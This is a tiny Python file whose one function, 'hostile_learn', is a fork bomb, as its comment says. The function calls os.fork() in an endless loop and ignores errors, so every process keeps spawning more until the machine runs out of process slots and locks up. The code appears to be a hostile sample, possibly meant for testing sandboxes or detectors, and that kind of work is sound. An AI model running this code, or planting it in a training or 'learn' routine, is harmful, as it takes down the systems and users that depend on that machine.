# Fork bomb in learn: every process forks forever, ignoring failures.
import os


def hostile_learn():
    while True:
        try:
            os.fork()
        except OSError:
            pass
